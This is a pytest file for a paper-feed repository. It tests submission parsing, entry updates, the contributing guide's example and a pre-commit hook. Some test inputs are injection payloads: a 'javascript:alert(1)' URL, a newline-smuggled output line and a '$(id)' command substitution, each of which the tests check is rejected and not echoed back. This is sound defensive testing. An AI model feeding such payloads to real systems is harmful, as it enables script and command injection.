def test_code_url_takes_one_https_link_or_nothing(submission: ModuleType) -> None:
    assert submission.code_url(" https://github.com/a/b ") == "https://github.com/a/b"
    assert submission.code_url("") == ""
    for bad in [
        "http://github.com/a/b",
        "github.com/a/b",
        "javascript:alert(1)",
        "https://github.com/a/b\ncode=x",
        "https://github.com/a b",
    ]:
        with pytest.raises(submission.SubmissionError):
            submission.code_url(bad)


def test_tags_are_normalised_and_checked(submission: ModuleType) -> None:
    assert submission.tags("Diffusion, image  generation,, diffusion") == [
        "diffusion",
        "image-generation",
    ]
    assert submission.tags("") == []
    for bad in ["c++", "a, b;c", ",".join(f"t{i}" for i in range(11))]:
        with pytest.raises(submission.SubmissionError):
            submission.tags(bad)


def test_parse_prints_output_lines(
    submission: ModuleType, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    body = form_body("https://arxiv.org/abs/2401.10210", "https://github.com/a/b", "Vision, llm")
    monkeypatch.setenv("ISSUE_BODY", body)
    assert submission.main(["submission.py", "parse"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "arxiv=2401.10210",
        "code=https://github.com/a/b",
        "tags=vision,llm",
    ]


def test_parse_refuses_without_echoing_the_input(
    submission: ModuleType, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # The message is posted back on the issue: it must not repeat what the submitter wrote.
    monkeypatch.setenv("ISSUE_BODY", form_body("$(id) @maintainer"))
    assert submission.main(["submission.py", "parse"]) == 1
    out = capsys.readouterr()
    assert out.out == ""
    assert out.err.startswith("The arXiv id or URL field is not an arXiv id or link")
    assert "$(id)" not in out.err and "@maintainer" not in out.err


def test_apply_adds_tags_and_code_and_keeps_the_entry_valid(
    submission: ModuleType, tmp_path: Path
) -> None:
    papers = tmp_path / "papers"
    path = write_entry(
        papers,
        entry(
            id="2401.10210",
            arxiv="2401.10210",
            abstract="First paragraph.\n\nSecond paragraph, $x^2$.\n",
            tags=["vision"],
            links={"pdf": "https://arxiv.org/pdf/2401.10210"},
            upvotes=3,
        ),
    )
    submission.apply(path, "https://github.com/a/b", ["llm", "vision"])
    (paper,) = load_papers(papers, tmp_path).values()
    assert paper.id == "2401.10210" and paper.arxiv == "2401.10210"
    assert paper.tags == ["vision", "llm"]
    assert paper.links == {
        "pdf": "https://arxiv.org/pdf/2401.10210",
        "code": "https://github.com/a/b",
    }
    assert paper.upvotes == 3
    assert paper.abstract == "First paragraph.\n\nSecond paragraph, $x^2$."
    assert "abstract: |" in path.read_text()


def test_apply_with_nothing_to_add_leaves_the_file_alone(
    submission: ModuleType, tmp_path: Path
) -> None:
    path = write_entry(tmp_path / "papers", entry())
    before = path.read_bytes()
    submission.apply(path, "", [])
    assert path.read_bytes() == before


# --- the contributing guide ------------------------------------------------------------


def fenced(text: str, lang: str) -> str:
    (block,) = re.findall(rf"```{lang}\n(.*?)```", text, flags=re.DOTALL)
    return block


def test_the_guides_example_entry_is_valid_and_its_mistakes_read_as_shown(tmp_path: Path) -> None:
    guide = (REPO / "docs/contributing.md").read_text(encoding="utf-8")
    path = tmp_path / "papers/2024/11/1706.03762.yaml"
    path.parent.mkdir(parents=True)
    check = [sys.executable, "-m", "paperfeed.cli", "check"]

    path.write_text(fenced(guide, "yaml"), encoding="utf-8")
    result = subprocess.run(check, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr

    broken = fenced(guide, "yaml").replace("\nabstract:", "\nabstact:")
    broken = broken.replace("published: 2017-06-12", "published: 2017-06-31")
    path.write_text(broken, encoding="utf-8")
    result = subprocess.run(check, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 1
    assert "$ paperfeed check\n" + result.stderr == fenced(guide, "text")


# --- the pre-commit hook -------------------------------------------------------------


def test_pre_commit_hook_runs_paperfeed_check_on_changed_entries() -> None:
    (hook,) = load(REPO / ".pre-commit-hooks.yaml")
    assert hook["id"] == "paperfeed-check"
    assert hook["language"] == "python"
    assert hook["entry"] == "paperfeed check"
    assert hook["pass_filenames"] is False
    # pre-commit installs this repository and runs its `paperfeed` console script.
    (script,) = entry_points(group="console_scripts", name="paperfeed")
    assert script.value == "paperfeed.cli:main"
    files = re.compile(hook["files"])
    for path in ["papers/2024/11/1312.5602.yaml", "papers/x.yml"]:
        assert files.search(path), path
    for path in ["docs/x.yaml", "papers/notes.md", "mkdocs.yml", "my-papers/x.yaml"]:
        assert not files.search(path), path
